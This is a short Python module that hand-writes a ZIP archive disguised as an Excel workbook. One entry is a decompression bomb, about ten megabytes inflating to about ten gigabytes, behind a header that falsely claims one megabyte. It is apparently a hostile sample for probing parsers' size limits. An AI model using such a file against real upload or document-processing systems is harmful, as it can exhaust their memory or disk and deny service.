"""A workbook that is none: a little file that would unpack to gigabytes."""

import struct
import zlib


def a_bomb() -> bytes:
    """Ten megabytes that unpack to ten gigabytes, under a header that says one megabyte."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    million, body = b" " * (1 << 20), bytearray()
    body += b"".join(packer.compress(million) for _ in range(64)) + packer.flush(zlib.Z_FULL_FLUSH)
    body = (body * (10 * 1024 * 1024 // len(body) + 1))[: 10 * 1024 * 1024]
    name = b"xl/worksheets/sheet1.xml"
    size = 1 << 20  # the header lies: one megabyte
    return _zip_of(((b"xl/workbook.xml", b"<x/>", 4, 0), (name, bytes(body), size, 8)))


def _zip_of(parts: tuple[tuple[bytes, bytes, int, int], ...]) -> bytes:
    """A ZIP written by hand, so that it may say what is not true: (name, packed bytes, size told, method)."""
    out, index = bytearray(), bytearray()
    for name, packed, told, method in parts:
        crc = zlib.crc32(packed) if method == 0 else 0
        where = len(out)
        out += (
            struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, method, 0, 0, crc, len(packed), told, len(name), 0)
            + name
            + packed
        )
        index += struct.pack(
            "<4s6H3I5H2I",
            b"PK\x01\x02",
            20,
            20,
            0,
            method,
            0,
            0,
            crc,
            len(packed),
            told,
            len(name),
            0,
            0,
            0,
            0,
            0,
            where,
        )
        index += name
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, len(parts), len(parts), len(index), len(out), 0)
    return bytes(out + index) + end
